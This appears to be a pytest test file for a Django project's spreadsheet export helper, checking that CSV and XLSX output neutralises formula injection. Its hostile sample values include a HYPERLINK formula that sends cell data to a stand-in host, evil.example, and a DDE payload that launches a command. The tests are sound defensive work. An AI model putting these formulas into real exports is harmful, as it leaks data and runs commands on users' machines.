"""The one CSV and XLSX writer of every export (config/spreadsheets.py): OWASP formula neutralisation.

The helpers here (HOSTILE_NAMES, assert_csv_text, assert_xlsx_text) are what each export's own tests
use to read a hostile trust name back as a spreadsheet reads it.
"""

import csv
import datetime
import io
from decimal import Decimal

import pytest
from django.utils import timezone
from openpyxl import load_workbook

from config import spreadsheets

# Each starts with a character a spreadsheet runs as a formula (OWASP: = + - @ tab carriage return).
HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"x")'
HOSTILE_NAMES = [HYPERLINK, "@SUM(1)", "+1", "-1", "\tTabbed NHS Trust", "\rReturned NHS Trust"]


def assert_csv_text(cell: str, text: str) -> None:
    """A CSV cell as a spreadsheet reads it: the text behind a leading quote, so never a formula."""
    assert cell == f"'{text}"


def assert_xlsx_text(cell, text: str) -> None:
    """An XLSX cell (openpyxl, not read-only) holds the text as a string, never a formula.

    Formula-leading text also carries Excel's quote prefix, so that editing the cell keeps it text.
    """
    assert cell.data_type == "s"
    assert cell.value == text
    assert cell.quotePrefix == text.startswith(spreadsheets.FORMULA_LEADERS)


def csv_rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def xlsx_sheet(content: bytes):
    return load_workbook(io.BytesIO(content)).active


@pytest.mark.parametrize("text", HOSTILE_NAMES)
def test_csv_puts_a_quote_before_formula_leading_text(text):
    rows = csv_rows(spreadsheets.csv_text([[text, "RAA"]], header=["trust", "ods_code"]))

    assert rows[0] == ["trust", "ods_code"]
    assert_csv_text(rows[1][0], text)
    assert rows[1][1] == "RAA"


@pytest.mark.parametrize("text", HOSTILE_NAMES)
def test_xlsx_writes_formula_leading_text_as_a_string(text):
    sheet = xlsx_sheet(spreadsheets.xlsx_bytes([[text]], header=["trust"]))

    assert_xlsx_text(sheet["A2"], text)


def test_formula_leading_header_cells_are_neutralised_too():
    assert csv_rows(spreadsheets.csv_text([], header=["=1+1"])) == [["'=1+1"]]
    assert_xlsx_text(xlsx_sheet(spreadsheets.xlsx_bytes([], header=["=1+1"]))["A1"], "=1+1")


def test_numbers_stay_numbers():
    row = [-1, 0.95, Decimal("-2.5"), 3, True]

    assert csv_rows(spreadsheets.csv_text([row])) == [["-1", "0.95", "-2.5", "3", "True"]]
    cells = list(xlsx_sheet(spreadsheets.xlsx_bytes([row]))[1])
    assert [cell.data_type for cell in cells] == ["n", "n", "n", "n", "b"]
    assert [cell.value for cell in cells] == [-1, 0.95, -2.5, 3, True]


def test_text_that_looks_like_a_negative_number_is_still_text():
    # A trust named "-1" is a name: the CSV keeps it from being read as a number or a formula.
    assert csv_rows(spreadsheets.csv_text([["-1"]])) == [["'-1"]]


def test_ordinary_text_dates_and_empty_cells_are_unchanged():
    day = datetime.date(2007, 4, 1)
    rows = csv_rows(spreadsheets.csv_text([["Alderbrook NHS Trust", "a=b", day, None, ""]]))

    assert rows == [["Alderbrook NHS Trust", "a=b", "2007-04-01", "", ""]]
    cells = list(xlsx_sheet(spreadsheets.xlsx_bytes([["Alderbrook NHS Trust", None, day]]))[1])
    assert [cell.value for cell in cells] == ["Alderbrook NHS Trust", None, datetime.datetime(2007, 4, 1)]
    assert not cells[0].quotePrefix


def test_a_separator_or_quote_inside_a_cell_cannot_start_a_new_cell():
    text = 'x",=1+1,"'

    assert csv_rows(spreadsheets.csv_text([[text, "next"]])) == [[text, "next"]]


def test_xlsx_header_is_bold_frozen_and_filtered():
    sheet = xlsx_sheet(spreadsheets.xlsx_bytes([["RAA", 1], ["RBB", 2]], header=["ods_code", "met"], title="Results"))

    assert sheet.title == "Results"
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == "A1:B3"
    assert all(cell.font.b for cell in sheet[1])
    assert not any(cell.font.b for cell in sheet[2])


def test_xlsx_replaces_characters_xml_cannot_hold_instead_of_failing():
    sheet = xlsx_sheet(spreadsheets.xlsx_bytes([["Bad\x01name\x00"]]))

    assert sheet["A1"].value == "Bad\ufffdname\ufffd"


def test_xlsx_writes_an_aware_time_as_local_time():
    moment = timezone.make_aware(datetime.datetime(2007, 4, 1, 9, 30), datetime.UTC)

    value = xlsx_sheet(spreadsheets.xlsx_bytes([[moment]]))["A1"].value

    assert value == timezone.localtime(moment).replace(tzinfo=None)


def test_lazy_and_other_objects_are_written_as_their_text():
    class Named:
        def __str__(self):
            return "=cmd|' /C calc'!A0"

    assert csv_rows(spreadsheets.csv_text([[Named()]])) == [["'=cmd|' /C calc'!A0"]]
    assert_xlsx_text(xlsx_sheet(spreadsheets.xlsx_bytes([[Named()]]))["A1"], "=cmd|' /C calc'!A0")


def test_responses_are_attachments_of_the_right_type():
    csv_response = spreadsheets.csv_response([["=1"]], "x.csv", header=["h"])
    xlsx_response = spreadsheets.xlsx_response([["=1"]], "x.xlsx", header=["h"])

    assert csv_response["Content-Type"] == "text/csv; charset=utf-8"
    assert csv_response["Content-Disposition"] == 'attachment; filename="x.csv"'
    assert csv_rows(csv_response.content.decode()) == [["h"], ["'=1"]]
    assert xlsx_response["Content-Type"] == spreadsheets.XLSX_CONTENT_TYPE
    assert xlsx_response["Content-Disposition"] == 'attachment; filename="x.xlsx"'
    assert_xlsx_text(xlsx_sheet(xlsx_response.content)["A2"], "=1")


def test_write_csv_counts_the_rows_without_the_header():
    out = io.StringIO()

    assert spreadsheets.write_csv(iter([["a"], ["b"]]), out, header=["h"]) == 2
